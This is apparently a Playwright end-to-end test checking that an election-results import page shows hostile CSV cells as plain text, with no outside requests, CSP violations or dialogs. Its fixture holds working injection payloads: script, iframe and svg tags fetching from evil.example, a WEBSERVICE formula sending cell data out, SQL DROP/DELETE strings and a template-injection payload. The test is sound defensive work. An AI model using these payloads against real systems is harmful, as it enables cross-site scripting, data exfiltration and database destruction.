/**
 * Hostile input must stay data: a results file whose cells hold HTML, formulas with links and
 * SQL is imported and shown in every view, and the page never contacts another origin, never
 * trips its Content Security Policy and never opens a dialog.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { baseUrl, launch } from './setup/browser';
import { blockOtherOrigins, hoverCharts, injected, watch } from './setup/watch';

const IMG = '<img src="http://evil.example/x.png">';
const LINK = '=HYPERLINK("http://evil.example","x")';
const SQL = '"; DROP TABLE results; --';
const TOWN = '<svg onload="fetch(\'http://evil.example/\')">镇';
const FRAME = '<iframe src="http://evil.example/"></iframe>村';

const csvCell = (v: string) => (/[",\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);

/** A results table as a county office would export it, with hostile names and remarks. */
function hostileCsv(): string {
  const header =
    '县(市、区),乡镇(街道),村(社区),区划代码,换届年份,届次,组织,有选举权人数,登记选民数,参加投票人数,参选率,发出选票,收回选票,有效票,无效票,应选职数,候选人数,一次选举成功,备注';
  // village, township, remark, registered, voted (the 5th votes under half: a rule breach)
  const rows: [string, string, string, number, number][] = [
    [IMG, '河西镇', '<a href="http://evil.example/">详情</a>', 1286, 1174],
    [LINK, '河西镇', '=WEBSERVICE("http://evil.example/?q="&A1)', 2118, 1893],
    [SQL, '河西镇', "'); DELETE FROM imports; --", 851, 702],
    ['<script src="http://evil.example/s.js"></script>', TOWN, 'javascript:alert(1)', 3375, 3108],
    [FRAME, TOWN, '@import url(http://evil.example/x.css)', 1562, 700],
    ["{{constructor.constructor('alert(1)')()}}村", '河西镇', '<style>body{background:url(http://evil.example/bg.png)}</style>', 968, 891],
  ];
  const lines = rows.map(([village, town, remark, registered, voted], i) => {
    const valid = voted - Math.round(voted * 0.01);
    const cells = [
      '青山县',
      town,
      village,
      String(139901102201 + i),
      '2021',
      '第十二届',
      '村委会',
      String(registered + 14),
      String(registered),
      String(voted),
    ];
    cells.push(
      `${((voted / registered) * 100).toFixed(1)}%`,
      String(voted),
      String(voted),
      String(valid),
      String(voted - valid),
      '5',
      '7',
      '是',
      remark,
    );
    return cells.map(csvCell).join(',');
  });
  return `\uFEFF${header}\n${lines.join('\n')}\n`;
}

let browser: Browser;
let dir: string;
beforeAll(async () => {
  browser = await launch();
  dir = mkdtempSync(path.join(tmpdir(), 'egress-'));
});
afterAll(async () => {
  await browser?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('hostile input', () => {
  it('imports HTML, formula and SQL cells as text, with no egress, CSP violation or dialog', async () => {
    const file = path.join(dir, '河西镇换届选举结果.csv');
    writeFileSync(file, hostileCsv());
    const origin = new URL(baseUrl()).origin;
    // No service worker here: every request of page and workers passes through the route.
    const context = await browser.newContext({ locale: 'zh-CN', serviceWorkers: 'block' });
    const foreign = await blockOtherOrigins(context, origin);
    const page = await context.newPage();
    page.on('websocket', (ws) => foreign.push(ws.url()));
    const w = await watch(context, page);

    await page.goto(`${baseUrl()}/?view=import`);
    await page.locator('input[type=file][data-action="choose-files"]').setInputFiles(file);
    await expect.poll(() => page.locator('[data-count="data"]').innerText(), { timeout: 30_000 }).toBe('6');
    expect(await page.locator('[data-count="rejected"]').innerText()).toBe('0');
    await page.locator('[data-action="confirm-import"]').click();
    const conflict = page.locator('[data-action="conflict-replace"]');
    const done = page.locator('.summary[data-state="done"]');
    await expect.poll(async () => (await conflict.count()) + (await done.count()), { timeout: 60_000 }).toBeGreaterThan(0);
    if (await conflict.count()) await conflict.click(); // the sample, if it was loaded, shares no villages
    await done.waitFor({ timeout: 60_000 });
    expect(await page.locator('[data-count="imported"]').innerText()).toBe('6');

    // Every view, with the hostile names in scope.
    await page.locator('[data-nav="overview"]').click();
    await expect
      .poll(() => page.locator('[data-view="overview"] [data-metric="villages"][data-body="all"]').innerText(), { timeout: 30_000 })
      .toBe('6');
    await expect.poll(() => page.locator('.echart[data-state="ready"]').count(), { timeout: 30_000 }).toBeGreaterThan(0);
    await hoverCharts(page);
    await page.locator('[data-nav="table"]').click();
    await page.waitForSelector('[data-view="table"]');
    // Scope it to the hostile township and village: their names go into selects and titles.
    await page.locator('[data-scope="county"]').selectOption({ label: '青山县' });
    await page.locator('[data-scope="township"]').selectOption({ label: TOWN });
    await page.locator('[data-scope="village"]').selectOption({ label: FRAME });
    await expect.poll(() => page.locator('[data-view="table"]').innerText(), { timeout: 30_000 }).toContain(FRAME);
    expect(await page.locator('[data-view="table"]').innerText()).toContain(TOWN);
    await page.locator('[data-nav="rules"]').click();
    await page.waitForSelector('[data-view="rules"]');
    await expect.poll(() => page.locator('[data-view="rules"]').innerText(), { timeout: 30_000 }).toContain(FRAME);
    await page.locator('[data-nav="data"]').click();
    await page.waitForSelector('[data-table="results"]');
    // The names are shown as the text they are, and the SQL in them did nothing.
    await expect.poll(() => page.locator('[data-table="results"]').innerText(), { timeout: 30_000 }).toContain('6 行');
    const shown = await page.locator('[data-view="data"]').innerText();
    for (const name of [IMG, LINK, SQL]) expect(shown).toContain(name);
    expect(await page.locator('[data-table="imports"]').innerText()).toContain('河西镇换届选举结果.csv');

    expect(await injected(page)).toEqual([]);
    expect(foreign).toEqual([]);
    expect(w.violations).toEqual([]);
    expect(w.dialogs).toEqual([]);
    expect(w.pageErrors).toEqual([]);
    await context.close();
  });
});
